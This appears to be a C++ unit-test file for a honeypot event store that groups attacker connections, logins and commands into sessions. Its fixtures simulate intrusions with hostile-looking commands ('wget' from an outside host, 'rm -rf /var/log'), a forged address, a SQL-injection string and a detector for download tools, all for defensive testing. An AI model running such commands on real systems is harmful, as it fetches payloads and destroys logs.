// Sessions from the sensor's events: the connection, its logins, and the
// process tree from the server's accept on, so that commands of two
// connections open at once land in their own sessions; the migration that
// adds sessions to a store of the previous schema.
#include "oyster/store/session_tracker.h"

#include <gtest/gtest.h>

#include <fstream>

#include <fmt/format.h>

#include "oyster/store/analyst_queries.h"
#include "oyster/store/event_store.h"
#include "oyster/store/store_schema.h"
#include "store_engines.h"

namespace oyster::store {
namespace {

constexpr const char* kIp = "203.0.113.10";

std::string ts(int second) {
    return fmt::format("2026-11-27T10:{:02}:{:02}.000Z", second / 60, second % 60);
}

// Sensor events as the sensor writes them (docs/sensor.md).
struct Log {
    std::string text;
    int t = 0;

    void add(nlohmann::json j) {
        j["ts"] = ts(t++);
        text += j.dump() + "\n";
    }
    void connection(int port, int service_port = 22) {
        add({{"type", "connection"},
             {"source_ip", kIp},
             {"source_port", port},
             {"port", service_port},
             {"guest_id", "g1"},
             {"intrusion_id", "i1"},
             {"waits_for_boot", false}});
    }
    // A connection that waits for its guest's boot: no guest named yet.
    void waiting_connection(int port) {
        add({{"type", "connection"},
             {"source_ip", kIp},
             {"source_port", port},
             {"port", 22},
             {"guest_id", ""},
             {"intrusion_id", ""},
             {"waits_for_boot", true}});
    }
    void closed(int port) {
        add({{"type", "connection_closed"},
             {"source_ip", kIp},
             {"source_port", port},
             {"guest_id", "g1"},
             {"bytes_from_client", 100},
             {"bytes_to_client", 200},
             {"duration_ms", 1500},
             {"end", "client closed"}});
    }
    void capture(nlohmann::json e, int pid) {
        e["pid"] = pid;
        e["tgid"] = pid;
        e["uid"] = 0;
        e["comm"] = "x";
        add({{"type", "capture"}, {"guest_id", "g1"}, {"intrusion_id", "i1"}, {"source_ip", kIp}, {"event", e}});
    }
    void accept(int server, int port) {
        capture({{"type", "accept"},
                 {"result", 4},
                 {"ok", true},
                 {"remote", {{"family", "inet"}, {"address", kIp}, {"port", port}}}},
                server);
    }
    void fork(int parent, int child) {
        capture({{"type", "fork"}, {"child_pid", child}, {"child_tgid", child}, {"thread", false}}, parent);
    }
    void exec(int pid, const std::vector<std::string>& argv) {
        capture({{"type", "exec"}, {"path", "/usr/bin/" + argv[0]}, {"cwd", "/root"}, {"argv", argv}}, pid);
    }
    void login(int pid, int port, const std::string& password, bool success) {
        add({{"type", "login"},
             {"guest_id", "g1"},
             {"intrusion_id", "i1"},
             {"source_ip", kIp},
             {"service", "sshd"},
             {"user", "root"},
             {"password", password},
             {"remote_ip", kIp},
             {"remote_port", port},
             {"success", success},
             {"reason", success ? "listed account" : "no rule"},
             {"pid", pid},
             {"tgid", pid}});
    }
    // login(1) under telnetd: PAM_RHOST is the attacker's address, and no
    // port is known.
    void telnet_login(int pid, const std::string& password, bool success) {
        add({{"type", "login"},
             {"guest_id", "g1"},
             {"intrusion_id", "i1"},
             {"source_ip", kIp},
             {"service", "login"},
             {"user", "root"},
             {"password", password},
             {"remote_ip", kIp},
             {"success", success},
             {"reason", success ? "listed account" : "no rule"},
             {"pid", pid},
             {"tgid", pid}});
    }
    void tty_open(int pid, int seq) { capture({{"type", "tty_open"}, {"session_tty", "pts/0"}, {"seq", seq}}, pid); }
};

// Two connections of one attacker, open at once: an interactive one
// (port 40001: sshd 300 -> 301, shell 310) and a command one (40002:
// sshd 400 -> 401, wget 410), as OpenSSH runs them: the listener (100)
// accepts and forks, the connection's process forks the user's.
Log two_connections() {
    Log l;
    l.connection(40001);
    l.accept(100, 40001);
    l.fork(100, 300);
    l.exec(300, {"sshd", "-D", "-R"});
    l.login(300, 40001, "wrong", false);
    l.login(300, 40001, "123456", true);
    l.tty_open(300, 77);
    l.fork(300, 301);
    l.connection(40002);
    l.accept(100, 40002);
    l.fork(100, 400);
    l.exec(400, {"sshd", "-D", "-R"});
    l.login(400, 40002, "123456", true);
    l.fork(400, 401);
    l.fork(401, 410);
    l.exec(410, {"wget", "-q", "http://198.51.100.1/x"});
    l.fork(301, 310);
    l.exec(310, {"bash"});
    l.fork(310, 311);
    l.exec(311, {"uname", "-a"});
    l.closed(40002);
    l.closed(40001);
    return l;
}

class SessionTrackerTest : public testing::StoreEngineTest {};

TEST_P(SessionTrackerTest, CommandsOfConcurrentConnectionsLandInTheirOwnSessions) {
    EventStore store(open_db());
    store.ingest_text(two_connections().text);
    ASSERT_EQ(store.count("sessions"), 2U);

    auto a = find_session(store.db(), 1);
    auto b = find_session(store.db(), 2);
    ASSERT_TRUE(a && b);
    EXPECT_EQ((*a)["source_port"], 40001);
    EXPECT_EQ((*a)["login_attempts"], 2);
    EXPECT_EQ((*a)["logged_in"], 1);
    EXPECT_EQ((*a)["password"], "123456");
    EXPECT_EQ((*a)["tty"], "pts/0");
    EXPECT_EQ((*a)["tty_open_seq"], 77);
    EXPECT_EQ((*a)["commands"], 3);  // sshd -R, bash, uname
    EXPECT_EQ((*a)["downloads"], 0);
    EXPECT_EQ((*a)["end_reason"], "client closed");
    EXPECT_EQ((*a)["duration_ms"], 1500);
    EXPECT_EQ((*b)["commands"], 2);  // sshd -R, wget
    EXPECT_EQ((*b)["downloads"], 1);
    EXPECT_TRUE((*b)["tty"].is_null());

    Statement q(store.db(), "SELECT command_line, session_id FROM commands ORDER BY id");
    std::vector<std::pair<std::string, std::int64_t>> rows;
    while (q.step()) rows.emplace_back(q.text(0), q.int64(1));
    ASSERT_EQ(rows.size(), 5U);
    EXPECT_EQ(rows[2], (std::pair<std::string, std::int64_t>{"wget -q http://198.51.100.1/x", 2}));
    EXPECT_EQ(rows[4], (std::pair<std::string, std::int64_t>{"uname -a", 1}));

    Statement creds(store.db(), "SELECT COUNT(*) FROM credentials WHERE session_id = 1");
    creds.step();
    EXPECT_EQ(creds.int64(0), 2);

    // The timeline: the session's own events, without forks.
    auto timeline = session_timeline(store.db(), 2);
    std::vector<std::string> kinds;
    for (const auto& row : timeline) {
        std::string k = row["type"];
        if (k == "capture") k = row["event"]["event"]["type"];
        kinds.push_back(k);
    }
    EXPECT_EQ(kinds, (std::vector<std::string>{"connection", "accept", "exec", "login", "exec", "connection_closed"}));
}

// A timeline follows the host's receive times: a guest root who sets its
// clock cannot move its commands before the login or after the disconnect.
TEST_P(SessionTrackerTest, TheTimelineFollowsTheHostsReceiveTimesNotTheGuestsClock) {
    Log l;
    l.connection(40001);
    l.accept(300, 40001);
    l.login(300, 40001, "123456", true);
    l.fork(300, 311);
    auto exec_at = [&](const std::vector<std::string>& argv, const char* guest_time, int received) {
        l.capture({{"type", "exec"},
                   {"path", "/usr/bin/" + argv[0]},
                   {"cwd", "/root"},
                   {"argv", argv},
                   {"time", guest_time},
                   {"received", ts(received)}},
                  311);
    };
    exec_at({"later-by-its-clock"}, "2031-01-01T00:00:00.000000000Z", 5);
    exec_at({"earlier-by-its-clock"}, "2001-01-01T00:00:00.000000000Z", 6);
    l.t = 8;
    l.closed(40001);
    EventStore store(open_db());
    store.ingest_text(l.text);
    std::vector<std::string> order;
    for (const auto& row : session_timeline(store.db(), 1)) {
        std::string k = row["type"];
        if (k == "capture") {
            const auto& e = row["event"]["event"];
            k = e["type"] == "exec" ? e["argv"][0].get<std::string>() : e["type"].get<std::string>();
        }
        order.push_back(k);
    }
    EXPECT_EQ(order, (std::vector<std::string>{"connection", "accept", "login", "later-by-its-clock",
                                               "earlier-by-its-clock", "connection_closed"}));
}

// What logind rewrites at every login is kept as bookkeeping; what an
// intruder wrote and removed is not.
TEST(Bookkeeping, KeptSystemStateIsBookkeepingAndAnIntrudersFileIsNot) {
    auto kept = [](const char* path) {
        return nlohmann::json{{"type", "capture"},
                              {"event", {{"type", "kept"}, {"path", path}, {"comm", "systemd-logind"}}}};
    };
    EXPECT_TRUE(is_bookkeeping(kept("/run/systemd/sessions/c1")));
    EXPECT_FALSE(is_bookkeeping(kept("/tmp/dropper.sh")));
    EXPECT_FALSE(is_bookkeeping(kept("/root/run.sh")));
}

TEST_P(SessionTrackerTest, AReusedPidDoesNotInheritAnOldSession) {
    Log l = two_connections();
    l.fork(1, 311);  // pid 311 again, now a child of init
    l.exec(311, {"cron"});
    EventStore store(open_db());
    store.ingest_text(l.text);
    Statement q(store.db(), "SELECT session_id FROM commands WHERE command_line = 'cron'");
    ASSERT_TRUE(q.step());
    EXPECT_TRUE(q.is_null(0));
}

TEST_P(SessionTrackerTest, ConnectionsCutByASensorCrashOrAClosedIntrusionEnd) {
    Log l;
    l.connection(40001);
    l.add({{"type", "sensor_started"}, {"pid", 1}});  // after a kill -9: no connection_closed came
    l.connection(40002);
    l.add({{"type", "intrusion_closed"}, {"intrusion_id", "i1"}, {"source_ip", kIp}, {"reason", "idle"}});
    EventStore store(open_db());
    store.ingest_text(l.text);
    auto a = find_session(store.db(), 1);
    auto b = find_session(store.db(), 2);
    EXPECT_EQ((*a)["end_reason"], "sensor restarted");
    EXPECT_EQ((*a)["ended"], ts(1));
    EXPECT_EQ((*b)["end_reason"], "intrusion closed");
}

TEST_P(SessionTrackerTest, ALoginNamesTheSessionsProcessWhenItsAcceptWasNotSeen) {
    Log l;
    l.connection(40001);
    l.login(300, 40001, "123456", true);  // the sensor restarted: no accept, no fork
    l.fork(300, 301);
    l.exec(301, {"id"});
    EventStore store(open_db());
    store.ingest_text(l.text);
    Statement q(store.db(), "SELECT session_id FROM commands WHERE command_line = 'id'");
    ASSERT_TRUE(q.step());
    EXPECT_EQ(q.int64(0), 1);
}

// Telnet: inetd (50) accepts and forks telnetd (500), which forks login
// (501); login reports no port, and is found by its process. An SSH
// connection open at the same time from the same address keeps its own.
TEST_P(SessionTrackerTest, ATelnetLoginIsFoundByItsProcess) {
    Log l;
    l.connection(40001);
    l.accept(100, 40001);
    l.fork(100, 300);
    l.connection(40009, 23);
    l.accept(50, 40009);
    l.fork(50, 500);
    l.exec(500, {"telnetd"});
    l.fork(500, 501);
    l.exec(501, {"login", "-h", kIp});
    l.telnet_login(501, "admin", false);
    l.telnet_login(501, "123456", true);
    l.tty_open(501, 90);
    l.fork(501, 502);
    l.exec(502, {"id"});
    EventStore store(open_db());
    store.ingest_text(l.text);
    auto ssh = find_session(store.db(), 1);
    auto telnet = find_session(store.db(), 2);
    ASSERT_TRUE(ssh && telnet);
    EXPECT_EQ((*telnet)["port"], 23);
    EXPECT_EQ((*telnet)["login_attempts"], 2);
    EXPECT_EQ((*telnet)["logged_in"], 1);
    EXPECT_EQ((*telnet)["username"], "root");
    EXPECT_EQ((*telnet)["password"], "123456");
    EXPECT_EQ((*telnet)["tty_open_seq"], 90);
    EXPECT_EQ((*ssh)["login_attempts"], 0);
    Statement creds(store.db(), "SELECT COUNT(*) FROM credentials WHERE session_id = 2");
    creds.step();
    EXPECT_EQ(creds.int64(0), 2);
    Statement q(store.db(), "SELECT session_id FROM commands WHERE command_line = 'id'");
    ASSERT_TRUE(q.step());
    EXPECT_EQ(q.int64(0), 2);
}

TEST_P(SessionTrackerTest, AConnectionThatWaitedForABootGetsItsIntrusion) {
    Log l;
    l.waiting_connection(40001);
    l.add({{"type", "intrusion_opened"}, {"intrusion_id", "i9"}, {"source_ip", kIp}, {"guest_id", "g9"}});
    EventStore store(open_db());
    store.ingest_text(l.text);
    auto s = find_session(store.db(), 1);
    ASSERT_TRUE(s);
    EXPECT_EQ((*s)["intrusion_id"], "i9");
    EXPECT_EQ((*s)["guest_id"], "g9");
}

// The guest's first word about such a connection is its server's accept:
// the guest the sensor booted for it, named by guest_ready.
TEST_P(SessionTrackerTest, AConnectionThatWaitedForABootIsThatGuestsOnly) {
    Log l;
    l.waiting_connection(40001);
    l.add({{"type", "guest_ready"}, {"guest_id", "g1"}, {"source_ip", kIp}, {"intrusion_id", ""}});
    l.accept(100, 40001);
    l.fork(100, 300);
    l.login(300, 40001, "123456", true);
    EventStore store(open_db());
    store.ingest_text(l.text);
    auto s = find_session(store.db(), 1);
    ASSERT_TRUE(s);
    EXPECT_EQ((*s)["guest_id"], "g1");
    EXPECT_EQ((*s)["logged_in"], 1);
}

// Guest g2's root gives its loopback the address and port of an attacker
// of guest g1 and logs in to its own sshd from it: the accept, login and
// commands are g2's, never g1's session's.
TEST_P(SessionTrackerTest, AnAddressForgedInAnotherGuestDoesNotReachThisGuestsSession) {
    Log l;
    l.connection(40001);
    l.accept(100, 40001);
    l.fork(100, 300);
    l.login(300, 40001, "123456", true);
    constexpr const char* kOtherIp = "198.51.100.77";
    l.add({{"type", "connection"},
           {"source_ip", kOtherIp},
           {"source_port", 50000},
           {"port", 22},
           {"guest_id", "g2"},
           {"intrusion_id", "i2"},
           {"waits_for_boot", false}});
    auto in_g2 = [&](nlohmann::json e, int pid) {
        e["pid"] = pid;
        e["tgid"] = pid;
        l.add({{"type", "capture"}, {"guest_id", "g2"}, {"intrusion_id", "i2"}, {"source_ip", kOtherIp}, {"event", e}});
    };
    in_g2({{"type", "accept"}, {"result", 4}, {"remote", {{"family", "inet"}, {"address", kIp}, {"port", 40001}}}},
          100);
    in_g2({{"type", "fork"}, {"child_pid", 300}, {"child_tgid", 300}, {"thread", false}}, 100);
    in_g2({{"type", "exec"}, {"path", "/usr/bin/rm"}, {"argv", {"rm", "-rf", "/var/log"}}}, 300);
    l.add({{"type", "login"},
           {"guest_id", "g2"},
           {"intrusion_id", "i2"},
           {"source_ip", kOtherIp},
           {"service", "sshd"},
           {"user", "root"},
           {"password", "forged"},
           {"remote_ip", kIp},
           {"remote_port", 40001},
           {"success", true},
           {"pid", 300},
           {"tgid", 300}});
    EventStore store(open_db());
    store.ingest_text(l.text);
    auto a = find_session(store.db(), 1);
    auto b = find_session(store.db(), 2);
    ASSERT_TRUE(a && b);
    EXPECT_EQ((*a)["login_attempts"], 1);
    EXPECT_EQ((*a)["password"], "123456");
    EXPECT_EQ((*a)["commands"], 0);
    EXPECT_EQ((*b)["login_attempts"], 0) << "the forged login names a peer g2 was never given";
    Statement q(store.db(), "SELECT intrusion_id, session_id FROM commands");
    ASSERT_TRUE(q.step());
    EXPECT_EQ(q.text(0), "i2");
    EXPECT_TRUE(q.is_null(1));
}

TEST_P(SessionTrackerTest, HostileEventsBelongToNoSessionAndBreakNothing) {
    Log l = two_connections();
    l.add({{"type", "connection"}, {"source_ip", 7}, {"source_port", "x"}});
    l.add({{"type", "capture"}, {"guest_id", "g1"}, {"event", {{"type", "fork"}, {"tgid", 300}}}});
    l.add({{"type", "capture"}, {"guest_id", "g1"}, {"event", {{"type", "accept"}, {"tgid", 100}, {"remote", 5}}}});
    l.add({{"type", "login"}, {"remote_ip", kIp}, {"remote_port", -1}});
    EventStore store(open_db());
    auto r = store.ingest_text(l.text);
    EXPECT_EQ(r.skipped, 0U);
    EXPECT_EQ(store.count("sessions"), 2U);
}

TEST_P(SessionTrackerTest, MigratingAStoreOfThePreviousSchemaDerivesItsSessions) {
    Log l = two_connections();
    {
        // A version-1 store holding the events (as the previous Oyster
        // wrote them: its own columns only).
        auto db = open_db();
        migrate_store(*db, 1);
        ASSERT_EQ(db->schema_version(), 1);
        Statement ins(*db, "INSERT INTO events (ts, type, body) VALUES (?, ?, ?)");
        Statement cmd(*db,
                      "INSERT INTO commands (event_id, ts, argv, command_line) VALUES ((SELECT max(id) FROM events), "
                      "?, '[]', ?)");
        std::size_t start = 0;
        while (start < l.text.size()) {
            auto nl = l.text.find('\n', start);
            auto j = nlohmann::json::parse(l.text.substr(start, nl - start));
            ins.bind(1, j["ts"].get<std::string>()).bind(2, j["type"].get<std::string>()).bind(3, j.dump()).run();
            if (j["type"] == "capture" && j["event"]["type"] == "exec") {
                cmd.bind(1, j["ts"].get<std::string>()).bind(2, j["event"]["argv"][0].get<std::string>()).run();
            }
            start = nl + 1;
        }
    }
    EventStore store(open_db());
    EXPECT_EQ(store.db().schema_version(), store_schema_version());
    EXPECT_EQ(store.count("sessions"), 2U);
    EXPECT_EQ(store.db().query_int("SELECT session_id FROM commands WHERE command_line = 'wget'"), 2);
    EXPECT_EQ(store.db().query_int("SELECT COUNT(*) FROM events WHERE session_id = 1"), 13);
    auto b = find_session(store.db(), 2);
    EXPECT_EQ((*b)["downloads"], 1);
}

// A central store holds many sensors' events (issue 22): the same guest
// id, pids and attacker port on two sensors make two sessions, each with
// its own commands, and one sensor's restart ends its own sessions only.
// A line without a sensor's name gets the one its log was shipped under.
TEST_P(SessionTrackerTest, TwoSensorsKeepTheirSessionsApart) {
    Log a;
    a.connection(40001);
    a.accept(100, 40001);
    a.fork(100, 300);
    a.exec(300, {"sshd", "-D", "-R"});
    a.login(300, 40001, "123456", true);
    a.fork(300, 310);
    a.exec(310, {"uname", "-a"});
    Log b = a;
    b.add({{"type", "sensor_started"}});
    std::string tagged;
    for (std::size_t start = 0; start < b.text.size();) {
        auto nl = b.text.find('\n', start);
        auto j = nlohmann::json::parse(b.text.substr(start, nl - start));
        j["sensor"] = "sensor-b";
        tagged += j.dump() + "\n";
        start = nl + 1;
    }
    std::ofstream(dir / "a.jsonl") << a.text;
    std::ofstream(dir / "b.jsonl") << tagged;
    EventStore store(open_db());
    EXPECT_EQ(store.ingest_jsonl(dir / "a.jsonl", {"sensor sensor-a", "sensor-a"}).events, 7U);
    EXPECT_EQ(store.ingest_jsonl(dir / "b.jsonl", {"sensor sensor-b", "other"}).events, 8U);
    EXPECT_EQ(store.count("sessions"), 2U);
    Statement q(store.db(), "SELECT sensor, commands, ended IS NULL, end_reason FROM sessions ORDER BY sensor");
    ASSERT_TRUE(q.step());
    EXPECT_EQ(q.text(0), "sensor-a");
    EXPECT_EQ(q.int64(1), 2);
    EXPECT_EQ(q.int64(2), 1) << "sensor-b's restart ended sensor-a's session";
    ASSERT_TRUE(q.step());
    EXPECT_EQ(q.text(0), "sensor-b");
    EXPECT_EQ(q.int64(1), 2);
    EXPECT_EQ(q.text(3), "sensor restarted");
    EXPECT_EQ(store.db().query_int("SELECT COUNT(*) FROM events WHERE sensor = 'sensor-a'"), 7);
    EXPECT_EQ(store.db().query_int("SELECT COUNT(*) FROM commands WHERE sensor = 'sensor-b'"), 2);
    EXPECT_EQ(store.db().query_int("SELECT COUNT(*) FROM credentials WHERE sensor IS NULL"), 0);
    // Each log's position is its own: shipping again adds nothing.
    EXPECT_EQ(store.ingest_jsonl(dir / "a.jsonl", {"sensor sensor-a", "sensor-a"}).events, 0U);
    EXPECT_EQ(store.ingest_jsonl(dir / "b.jsonl", {"sensor sensor-b", "other"}).events, 0U);
}

TEST_P(SessionTrackerTest, ListingsFilterAndPage) {
    EventStore store(open_db());
    store.ingest_text(two_connections().text);
    SessionFilter f;
    EXPECT_EQ(list_sessions(store.db(), f)["total"], 2);
    EXPECT_EQ(list_sessions(store.db(), f)["sessions"][0]["id"], 2);  // newest first
    f.has_download = true;
    auto page = list_sessions(store.db(), f);
    ASSERT_EQ(page["total"], 1);
    EXPECT_EQ(page["sessions"][0]["source_port"], 40002);
    f = {};
    f.source_ip = "198.51.100.99";
    EXPECT_EQ(list_sessions(store.db(), f)["total"], 0);
    f = {};
    f.since = *parse_time_bound("2026-11-27T10:00:08");  // the second connection's time
    EXPECT_EQ(list_sessions(store.db(), f)["total"], 1);
    f = {};
    f.limit = 1;
    f.offset = 1;
    page = list_sessions(store.db(), f);
    EXPECT_EQ(page["total"], 2);
    ASSERT_EQ(page["sessions"].size(), 1U);
    EXPECT_EQ(page["sessions"][0]["id"], 1);
}

TEST(TimeBound, AcceptsUtcDatesAndTimesOnly) {
    EXPECT_EQ(parse_time_bound("2026-11-27"), "2026-11-27");
    EXPECT_EQ(parse_time_bound("2026-11-27T10:30"), "2026-11-27T10:30");
    EXPECT_EQ(parse_time_bound("2026-11-27 10:30:05Z"), "2026-11-27T10:30:05");
    EXPECT_EQ(parse_time_bound("2026-11-27T10:30:05.250Z"), "2026-11-27T10:30:05.250");
    for (const char* bad : {"", "yesterday", "2026-11-27T10", "2026-11-27'; DROP TABLE x", "2026-1-27"}) {
        EXPECT_FALSE(parse_time_bound(bad)) << bad;
    }
}

TEST(TransferPrograms, ByPathOrBusyboxApplet) {
    EXPECT_TRUE(is_transfer_program({{"path", "/usr/bin/wget"}, {"argv", {"wget"}}}));
    EXPECT_TRUE(is_transfer_program({{"path", "/bin/busybox"}, {"argv", {"tftp", "-g"}}}));
    EXPECT_FALSE(is_transfer_program({{"path", "/usr/bin/uname"}, {"argv", {"uname"}}}));
    EXPECT_FALSE(is_transfer_program({{"path", 5}, {"argv", "wget"}}));
}

INSTANTIATE_TEST_SUITE_P(Engines, SessionTrackerTest, OYSTER_STORE_ENGINES);

}  // namespace
}  // namespace oyster::store
